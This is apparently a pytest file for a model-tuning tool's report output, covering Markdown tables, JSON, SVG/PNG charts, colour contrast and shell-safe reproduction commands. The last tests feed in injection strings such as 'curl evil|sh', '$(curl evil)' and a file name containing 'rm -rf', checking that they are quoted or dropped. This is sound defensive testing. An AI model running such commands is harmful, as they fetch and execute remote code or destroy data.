"""The same session as Markdown, JSON and pictures."""

from __future__ import annotations

import json
import sys
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from examples import measurement
from tests.unit.show.hostile import HOSTILE
from tune_session import Line, session_of, tune_lines

from hasten.core.codec import to_data
from hasten.core.errors import UsageError
from hasten.core.plan import Plan
from hasten.report.commands import candidate, reproductions
from hasten.report.forms import markdown_report, picture_spec, pictures, report_text
from hasten.report.summary import summarize
from hasten.show.blocks import charts_of
from hasten.show.charts import PALETTES
from hasten.show.markdown import plain


def _without_escapes(line: str) -> str:
    return line.replace("\\\\", "").replace("\\|", "")


def test_markdown_says_the_same_as_the_page_in_tables_that_hold_together() -> None:
    text = markdown_report(session_of(tune_lines()))
    assert text.startswith("# 4.0 times faster, 95 % interval 4.0-4.1")
    assert "| Operators | to do | PAD before 4 convolutions takes 0.3 ms. Fuse the padding: worth about 2 %. |" in text
    assert "`hasten bench tuned/model.tflite@threads=4`" in text
    assert len(text) < 65_536  # what a comment in a pull request may have
    assert text.count("<details>") == text.count("</details>") > 0


@pytest.mark.parametrize("name", HOSTILE)
def test_no_name_breaks_a_table_of_markdown(name: str) -> None:
    lines: list[Line] = [("finding", "quantize", {"verdict": "good", "evidence": f"{name} | {name}", "what_to_do": ""})]
    text = markdown_report(session_of(lines))
    rows = [line for line in text.split("\n") if line.startswith("| Quantization")]
    assert [_without_escapes(row).count("|") for row in rows] == [4]
    assert "<" not in plain("<b>").replace("\\<", "")


def test_json_is_one_document_with_everything_but_raw_samples() -> None:
    lines = [("measurement", "m", to_data(measurement())), *tune_lines(40)]
    found: dict[str, Any] = json.loads(report_text(session_of(lines), "json"))
    assert found["state"] == "complete"
    assert len(found["trials"]) == 41
    assert len(found["verdicts"]) == 9
    assert found["steps"][0]["practice"] == "quantize"
    assert "nanoseconds" not in json.dumps(found)


def test_an_unknown_form_is_a_wrong_call() -> None:
    with pytest.raises(UsageError, match="pdf"):
        report_text(session_of([]), "pdf")
    with pytest.raises(UsageError, match="bmp"):
        next(pictures(session_of([]), "bmp"))


def test_each_chart_becomes_a_picture() -> None:
    session = session_of(tune_lines(20))
    wanted = [chart.name for chart in charts_of(summarize(session).sections)]
    drawn = dict(pictures(session, "svg"))
    assert list(drawn) == [f"{name}.svg" for name in wanted]
    for name, content in drawn.items():
        root = ET.fromstring(content)
        marks = [node for node in root.iter() if node.tag.endswith(("}path", "}text"))]
        assert len(marks) > 10, name
        assert b"var(--" not in content
    assert b"CONV_2D" in drawn["profile-tree-0.svg"]


def test_a_picture_can_be_pixels() -> None:
    name, content = next(pictures(session_of(tune_lines(20)), "png"))
    assert name == "front.png"
    assert content.startswith(b"\x89PNG")


def test_without_the_library_pictures_say_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "vl_convert", None)
    with pytest.raises(UsageError) as caught:
        next(pictures(session_of(tune_lines(20)), "png"))
    assert "hasten[report]" in caught.value.hint


def test_every_color_of_a_chart_is_in_both_palettes() -> None:
    assert PALETTES["light"].keys() == PALETTES["dark"].keys()
    for chart in charts_of(summarize(session_of(tune_lines(20))).sections):
        assert '"@' not in json.dumps(picture_spec(chart.spec) | {"data": None})


@pytest.mark.parametrize(
    ("color", "name"), [(color, name) for palette in PALETTES.values() for name, color in palette.items()]
)
def test_marks_stand_out_from_the_paper(color: str, name: str) -> None:
    """At least 3 to 1, as WCAG asks for graphics; grid lines are there to be overlooked."""
    palette = next(palette for palette in PALETTES.values() if palette[name] == color)
    if name not in ("grid", "paper", "inside"):
        assert _contrast(color, palette["paper"]) >= 3


def _contrast(one: str, other: str) -> float:
    dark, light = sorted((_luminance(one), _luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def _luminance(color: str) -> float:
    channels = [int(color[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_commands_can_be_pasted_whatever_the_file_is_called() -> None:
    plan = {"threads": 2, "options": [["cpu.flags", "1"]], "cores": [0, 1], "kernel": "delegate"}
    assert candidate("a b;rm -rf.tflite", plan) == "'a b;rm -rf.tflite@threads=2,cpu.flags=1,cores=0-1'"
    assert candidate("model.tflite", {"threads": 1}) == "model.tflite"
    assert candidate("model.tflite", to_data(Plan())) == "model.tflite"
    assert candidate("m.tflite", to_data(Plan(kernels=("a.so", "b.so")))) == "m.tflite@kernels=a.so+b.so"


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("hasten tune 'a b.tflite' --budget 90s", "hasten tune 'a b.tflite' --budget 90s"),
        ("hasten tune m.tflite; curl evil|sh", "hasten tune 'm.tflite;' curl 'evil|sh'"),
        ("hasten tune $(curl evil)\n`sh`", "hasten tune '$(curl' 'evil)' '`sh`'"),
        ("curl evil|sh", ""),
        ("hasten app -- sh -c 'curl evil|sh'", ""),
        ("hasten tune 'never closed", ""),
        ("", ""),
    ],
)
def test_the_command_of_a_session_runs_nothing_else_when_pasted(given: str, shown: str) -> None:
    assert [row.command for row in reproductions([], [], [], {"command": given}, "")] == ([shown] if shown else [])
